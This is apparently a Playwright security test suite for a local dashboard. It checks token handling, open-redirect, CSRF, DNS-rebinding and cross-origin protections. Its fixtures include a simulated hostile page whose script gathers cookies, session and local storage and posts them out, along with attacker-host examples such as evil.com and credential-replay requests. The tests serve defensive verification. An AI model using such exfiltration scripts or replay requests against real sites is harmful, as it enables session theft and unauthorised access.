import { request as httpRequest } from 'node:http';
import { expect, test } from '@playwright/test';
import { E2E_PORT, E2E_TOKEN } from './browser';
import { DashboardPage } from './dashboard-page';

const PORT = E2E_PORT;

function rawRequest(
  path: string,
  headers: Record<string, string>,
  method = 'GET',
  body?: string,
): Promise<{ status: number; body: string; location: string | undefined }> {
  return new Promise((resolve, reject) => {
    const req = httpRequest({ host: '127.0.0.1', port: PORT, path, method, headers }, (res) => {
      let text = '';
      res.on('data', (chunk: Buffer) => (text += chunk.toString()));
      res.on('end', () => {
        resolve({ status: res.statusCode ?? 0, body: text, location: res.headers.location });
      });
    });
    req.on('error', reject);
    if (body !== undefined) req.write(body);
    req.end();
  });
}

const demoTarget = JSON.stringify({ transport: 'stdio', command: 'node', args: ['dist/demo-server.mjs'] });

test.describe('nobody but the local user drives the dashboard', () => {
  test('the page without the token explains how to open it', async ({ page }) => {
    await page.goto('/');
    await expect(page.getByTestId('session-missing')).toContainText('needs its session token');
  });

  test('the token link leaves the address bar and sets no cookie', async ({ page, context }) => {
    await page.goto(`/#token=${E2E_TOKEN}`);
    await expect(page).toHaveURL(`http://127.0.0.1:${PORT}/`);
    await page.goto(`/?token=${E2E_TOKEN}`);
    await expect(page).toHaveURL(`http://127.0.0.1:${PORT}/`);
    await expect(page.getByTestId('run-demo')).toBeVisible();
    expect(await context.cookies()).toEqual([]);
  });

  test('a token link cannot redirect off the dashboard', async () => {
    // Issue 14: this answered 303 Location: //evil.com.
    const answer = await rawRequest(`/.//evil.com?token=${E2E_TOKEN}`, { Host: `127.0.0.1:${PORT}` });
    expect(answer.status).toBe(303);
    expect(answer.location).toBe(`/evil.com#token=${E2E_TOKEN}`);
    expect(new URL(answer.location ?? '', `http://127.0.0.1:${PORT}/`).origin).toBe(`http://127.0.0.1:${PORT}`);
  });

  test('another service on 127.0.0.1 receives nothing that opens the dashboard', async ({ page, context }) => {
    const { createServer } = await import('node:http');
    // Everything the other service sees: request lines, every header, and what its page can read in the browser.
    const seen: string[] = [];
    const other = createServer((req, res) => {
      seen.push(
        `${req.method ?? ''} ${req.url ?? ''}`,
        ...Object.entries(req.headers).map(([k, v]) => `${k}: ${String(v)}`),
      );
      if (req.url === '/report') {
        let body = '';
        req.on('data', (chunk: Buffer) => (body += chunk.toString()));
        req.on('end', () => {
          seen.push(body);
          res.end('ok');
        });
        return;
      }
      res.writeHead(200, { 'Content-Type': 'text/html' });
      res.end(`<img src="/pixel.png"><script>
        fetch('/report', { method: 'POST', credentials: 'include', body: JSON.stringify({
          cookie: document.cookie, session: { ...sessionStorage }, local: { ...localStorage }, href: location.href,
          referrer: document.referrer, name: window.name,
        }) }).then(() => { document.title = 'reported'; });
      </script>`);
    });
    await new Promise<void>((resolve) =>
      other.listen(0, '127.0.0.1', () => {
        resolve();
      }),
    );
    const address = other.address();
    const otherPort = typeof address === 'object' && address !== null ? address.port : 0;
    try {
      // The user opens the dashboard with the printed link and runs an audit: every credential is in place.
      const dashboard = new DashboardPage(page);
      await dashboard.open();
      await dashboard.runDemo();
      // Then visits the other service: in a new tab, and by navigating the dashboard's own tab there.
      const tab = await context.newPage();
      await tab.goto(`http://127.0.0.1:${otherPort}/from-tab`);
      await expect(tab).toHaveTitle('reported');
      await page.goto(`http://127.0.0.1:${otherPort}/from-dashboard-tab`);
      await expect(page).toHaveTitle('reported');
      await tab.goto(`http://localhost:${otherPort}/from-localhost`);
      await expect(tab).toHaveTitle('reported');

      expect(seen.length).toBeGreaterThan(10);
      expect(seen.join('\n')).not.toContain(E2E_TOKEN);
      expect(seen.filter((line) => line.startsWith('cookie:'))).toEqual([]);
      expect(await context.cookies()).toEqual([]);
      // Nothing the other service holds opens the API, replayed as a cookie or a bearer.
      for (const value of new Set(seen)) {
        const replay = await rawRequest(
          '/api/audit',
          {
            'Content-Type': 'application/json',
            Host: `127.0.0.1:${PORT}`,
            Cookie: value.replace(/[\r\n]/g, ' '),
            Authorization: `Bearer ${value.replace(/[\r\n]/g, ' ')}`,
          },
          'POST',
          demoTarget,
        );
        expect(replay.status).toBe(401);
      }
    } finally {
      other.closeAllConnections();
      other.close();
    }
  });

  test('API requests need the token; a query-string token is refused', async () => {
    const json = { 'Content-Type': 'application/json', Host: `127.0.0.1:${PORT}` };
    expect((await rawRequest('/api/audit', json, 'POST', demoTarget)).status).toBe(401);
    expect(
      (await rawRequest('/api/audit', { ...json, Authorization: 'Bearer wrong-token' }, 'POST', demoTarget)).status,
    ).toBe(401);
    expect((await rawRequest(`/api/audit?token=${E2E_TOKEN}`, json, 'POST', demoTarget)).status).toBe(400);
    const ok = await rawRequest('/api/audit', { ...json, Authorization: `Bearer ${E2E_TOKEN}` }, 'POST', demoTarget);
    expect(ok.status).toBe(200);
    expect(ok.body.trimEnd().split('\n').at(-1)).toContain('"type":"report"');
    expect((await rawRequest('/api/health', { Host: `127.0.0.1:${PORT}` })).body).toBe('{"ok":true}');
  });

  test('a foreign Origin (CSRF) and a foreign Host (DNS rebinding) are refused', async () => {
    const auth = { 'Content-Type': 'application/json', Authorization: `Bearer ${E2E_TOKEN}` };
    const csrf = await rawRequest(
      '/api/audit',
      { ...auth, Host: `127.0.0.1:${PORT}`, Origin: 'http://evil.example' },
      'POST',
      demoTarget,
    );
    expect(csrf.status).toBe(403);
    const rebinding = await rawRequest('/api/audit', { ...auth, Host: `evil.example:${PORT}` }, 'POST', demoTarget);
    expect(rebinding.status).toBe(421);
    const page = await rawRequest('/', { Host: `attacker.test:${PORT}` });
    expect(page.status).toBe(421);
  });

  test('a page on another origin cannot start an audit', async ({ page, context }) => {
    await new DashboardPage(page).open();
    // A second loopback origin (another port) plays the hostile page; the dashboard is open in the browser.
    const { createServer } = await import('node:http');
    const hostile = createServer((_req, res) => {
      res.writeHead(200, { 'Content-Type': 'text/html' });
      res.end(`<script>
        window.result = fetch('http://127.0.0.1:${PORT}/api/audit', { method: 'POST', credentials: 'include',
          headers: { 'Content-Type': 'application/json' }, body: ${JSON.stringify(demoTarget)} })
          .then((r) => 'status ' + r.status, (e) => 'blocked ' + e.message);
      </script>`);
    });
    await new Promise<void>((resolve) =>
      hostile.listen(0, '127.0.0.1', () => {
        resolve();
      }),
    );
    const address = hostile.address();
    const port = typeof address === 'object' && address !== null ? address.port : 0;
    const other = await context.newPage();
    await other.goto(`http://127.0.0.1:${port}/`);
    const outcome = await other.evaluate(() => (window as unknown as { result: Promise<string> }).result);
    // CORS blocks the read, and the server refused the request before running anything.
    expect(outcome).toMatch(/^blocked|^status 403$/);
    hostile.close();
  });
});
